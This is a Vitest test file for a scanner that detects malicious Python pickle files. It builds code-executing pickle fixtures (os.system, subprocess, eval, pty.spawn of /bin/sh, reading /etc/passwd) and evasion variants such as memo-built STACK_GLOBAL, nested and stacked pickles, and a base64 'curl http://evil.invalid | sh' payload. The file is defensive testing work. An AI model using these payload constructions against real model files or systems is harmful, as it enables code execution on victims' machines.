import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { atLeast, fixtureDir, pk, runPython, scanFile } from '../testing/fixtures';
import { classifyGlobal } from './policy';

const { dir, cleanup } = fixtureDir('pickle');
afterAll(cleanup);

/** Writes bytes to a fixture (unless Python wrote it already) and scans it. */
async function scanBytes(name: string, ...parts: Buffer[]) {
  const path = join(dir, name);
  if (parts.length > 0) writeFileSync(path, Buffer.concat(parts));
  return scanFile(path);
}

const DANGEROUS: [string, string, string][] = [
  ['os_system', 'os.system', "('id',)"],
  ['subprocess', 'subprocess.check_output', "(['id'],)"],
  ['eval', 'builtins.eval', "('1+1',)"],
  ['exec', 'builtins.exec', "('x=1',)"],
  ['compile', 'builtins.compile', "('1', 'f', 'eval')"],
  ['open', 'builtins.open', "('/etc/passwd',)"],
  ['dunder_import', 'builtins.__import__', "('os',)"],
  ['getattr', 'builtins.getattr', "('a', 'upper')"],
  ['runpy', 'runpy.run_path', "('x.py',)"],
  ['importlib', 'importlib.import_module', "('os',)"],
  ['socket', 'socket.create_connection', "(('127.0.0.1', 1),)"],
  ['shutil', 'shutil.rmtree', "('/tmp/nothing-here',)"],
  ['sys', 'sys.exit', '(0,)'],
  ['webbrowser', 'webbrowser.open', "('http://example.invalid',)"],
  ['pty', 'pty.spawn', "('/bin/sh',)"],
  ['code', 'code.interact', '()'],
  ['pickle_loads', 'pickle.loads', "(b'N.',)"],
  ['marshal_loads', 'marshal.loads', "(b'N',)"],
];

describe('pickle scanner: dangerous callables (written by Python)', () => {
  const lines = [
    'import pickle, builtins, os, subprocess, runpy, importlib, socket, shutil, sys',
    'import webbrowser, pty, code, marshal',
    'class R:',
    '    def __init__(self, f, a): self.f, self.a = f, a',
    '    def __reduce__(self): return (self.f, self.a)',
    ...DANGEROUS.flatMap(([name, callable, args]) =>
      [0, 2, 4].map(
        (protocol) =>
          `open('${name}-p${protocol}.pkl', 'wb').write(pickle.dumps(R(${callable}, ${args}), protocol=${protocol}))`,
      ),
    ),
  ];
  runPython(dir, lines.join('\n'));

  for (const [name, callable] of DANGEROUS) {
    for (const protocol of [0, 2, 4]) {
      it(`${callable} with protocol ${protocol} is critical`, async () => {
        const findings = await scanBytes(`${name}-p${protocol}.pkl`);
        const critical = findings.filter((finding) => finding.severity === 'critical');
        expect(critical).toHaveLength(1);
        const function_ = callable.split('.').pop() ?? '';
        expect(critical[0]).toMatchObject({
          ruleId: 'pickle/dangerous-global',
          scanner: 'pickle',
          operator: 'REDUCE',
        });
        expect(critical[0]?.global).toMatch(new RegExp(`\\.${function_.replace(/_/g, '_')}$`));
        expect(critical[0]?.message).toContain('calls it');
      });
    }
  }
});

describe('pickle scanner: evasions', () => {
  it('resolves STACK_GLOBAL operands built through the memo', async () => {
    const findings = await scanBytes(
      'memo.pkl',
      pk.proto(4),
      pk.shortUnicode('os'),
      pk.binput(0),
      pk.shortUnicode('system'),
      pk.binput(1),
      pk.op(pk.POP, pk.POP),
      pk.binget(0),
      pk.binget(1),
      pk.op(pk.STACK_GLOBAL),
      pk.shortUnicode('id'),
      pk.op(pk.TUPLE1, pk.REDUCE, pk.STOP),
    );
    expect(findings).toEqual([
      expect.objectContaining({
        severity: 'critical',
        global: 'os.system',
        operator: 'REDUCE',
        position: 9,
        offset: 24,
      }),
    ]);
  });

  it('catches INST and OBJ imports', async () => {
    const inst = await scanBytes(
      'inst.pkl',
      pk.op(pk.MARK),
      pk.binUnicode('id'),
      pk.inst('os', 'system'),
      pk.op(pk.STOP),
    );
    expect(inst).toEqual([
      expect.objectContaining({ severity: 'critical', global: 'os.system', operator: 'INST' }),
    ]);
    const obj = await scanBytes(
      'obj.pkl',
      pk.op(pk.MARK),
      pk.global('subprocess', 'Popen'),
      pk.binUnicode('id'),
      pk.op(pk.OBJ, pk.STOP),
    );
    expect(obj).toEqual([
      expect.objectContaining({
        severity: 'critical',
        global: 'subprocess.Popen',
        operator: 'OBJ',
      }),
    ]);
  });

  it('scans a pickle that follows a benign one in the same stream', async () => {
    const findings = await scanBytes(
      'second.pkl',
      pk.proto(2),
      pk.op(pk.EMPTY_DICT, pk.STOP),
      pk.proto(2),
      pk.global('posix', 'system'),
      pk.binUnicode('id'),
      pk.op(pk.TUPLE1, pk.REDUCE, pk.STOP),
    );
    expect(atLeast(findings, 'medium')).toEqual([
      expect.objectContaining({ severity: 'critical', global: 'posix.system', position: 4 }),
    ]);
  });

  it('treats dotted attribute chains reaching a dangerous module as dangerous', () => {
    expect(classifyGlobal('collections', 'os.system')).toBe('dangerous');
    expect(classifyGlobal('torch._utils', '_rebuild_tensor_v2.__globals__')).toBe('dangerous');
    expect(classifyGlobal('torch._utils', '_rebuild_tensor_v2')).toBe('safe');
    expect(classifyGlobal('mypackage.models', 'Classifier')).toBe('unknown');
    expect(classifyGlobal('sklearn.ensemble._iforest', 'IsolationForest')).toBe('safe');
    expect(classifyGlobal('sklearn.utils._testing', 'assert_run_python_script')).toBe('unknown');
    expect(classifyGlobal('numpy.dtypes', 'Float64DType')).toBe('safe');
    expect(classifyGlobal('functools', 'partial')).toBe('unknown');
  });

  it('scans pickles hidden in bytes and base64 strings', async () => {
    const inner = Buffer.concat([
      pk.proto(2),
      pk.global('os', 'system'),
      pk.binUnicode('id'),
      pk.op(pk.TUPLE1, pk.REDUCE, pk.STOP),
    ]);
    const length = Buffer.alloc(4);
    length.writeUInt32LE(inner.length);
    const nested = await scanBytes(
      'nested.pkl',
      pk.proto(3),
      Buffer.from('B'),
      length,
      inner,
      pk.op(pk.STOP),
    );
    expect(nested).toEqual([
      expect.objectContaining({ severity: 'critical', global: 'os.system', member: 'pickle@2' }),
    ]);

    const code = Buffer.from("import os; os.system('curl http://evil.invalid | sh')").toString(
      'base64',
    );
    const encoded = await scanBytes(
      'encoded.pkl',
      pk.proto(2),
      pk.binUnicode(code),
      pk.op(pk.STOP),
    );
    expect(encoded).toEqual([
      expect.objectContaining({ ruleId: 'pickle/encoded-payload', severity: 'high' }),
    ]);
  });

  it('catches NEWOBJ of a dangerous class and EXT imports', async () => {
    const newobj = await scanBytes(
      'newobj.pkl',
      pk.proto(2),
      pk.global('subprocess', 'Popen'),
      pk.binUnicode('id'),
      pk.op(pk.TUPLE1, pk.NEWOBJ, pk.STOP),
    );
    expect(newobj).toEqual([
      expect.objectContaining({
        severity: 'critical',
        global: 'subprocess.Popen',
        operator: 'NEWOBJ',
      }),
    ]);
    const ext = await scanBytes(
      'ext.pkl',
      pk.proto(2),
      Buffer.from([0x82, 0x07]),
      pk.op(pk.EMPTY_TUPLE, pk.REDUCE, pk.STOP),
    );
    expect(ext).toEqual([
      expect.objectContaining({
        ruleId: 'pickle/extension-code',
        severity: 'medium',
        global: 'copyreg extension 7',
      }),
    ]);
  });

  it('names globals outside the allow-list as warnings', async () => {
    const findings = await scanBytes(
      'unknown.pkl',
      pk.proto(2),
      pk.global('mypackage.models', 'Classifier'),
      pk.op(pk.EMPTY_TUPLE, pk.REDUCE, pk.STOP),
    );
    expect(findings).toEqual([
      expect.objectContaining({
        ruleId: 'pickle/unknown-global',
        severity: 'medium',
        global: 'mypackage.models.Classifier',
      }),
    ]);
  });
});

describe('pickle scanner: benign and broken streams', () => {
  it('finds nothing in a pickle of allow-listed torch and collections globals', async () => {
    runPython(
      dir,
      [
        'import pickle, collections',
        'state = collections.OrderedDict([("w", 1), ("b", [1.5, "x"])])',
        "open('benign.pkl', 'wb').write(pickle.dumps(state, protocol=2))",
        "open('benign4.pkl', 'wb').write(pickle.dumps({'a': [1, 2, 3], 'b': b'bytes', 'c': (1.0, None, True)}, protocol=4))",
      ].join('\n'),
    );
    expect(await scanBytes('benign.pkl')).toEqual([]);
    expect(await scanBytes('benign4.pkl')).toEqual([]);
  });

  it('reports truncated, malformed and empty streams without throwing', async () => {
    const truncated = await scanBytes('truncated.pkl', pk.proto(2), Buffer.from('cos\nsys'));
    expect(truncated).toEqual([
      expect.objectContaining({ ruleId: 'pickle/malformed', severity: 'medium' }),
    ]);
    const invalid = await scanBytes('invalid.pkl', pk.proto(2), Buffer.from([0xff, 0x00]));
    expect(invalid).toEqual([
      expect.objectContaining({
        ruleId: 'pickle/malformed',
        message: expect.stringContaining('0xff'),
      }),
    ]);
    const noStop = await scanBytes('nostop.pkl', pk.proto(2), pk.op(pk.EMPTY_DICT));
    expect(noStop).toEqual([
      expect.objectContaining({
        ruleId: 'pickle/malformed',
        message: expect.stringContaining('before STOP'),
      }),
    ]);
    const underflow = await scanBytes('underflow.pkl', pk.proto(2), pk.op(pk.REDUCE, pk.STOP));
    expect(underflow).toEqual([
      expect.objectContaining({
        ruleId: 'pickle/malformed',
        message: expect.stringContaining('underflow'),
      }),
    ]);
    const huge = Buffer.from([0x80, 0x04, 0x8e, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f]);
    expect(await scanBytes('huge-length.pkl', huge)).toEqual([
      expect.objectContaining({ ruleId: 'pickle/malformed' }),
    ]);
  });
});
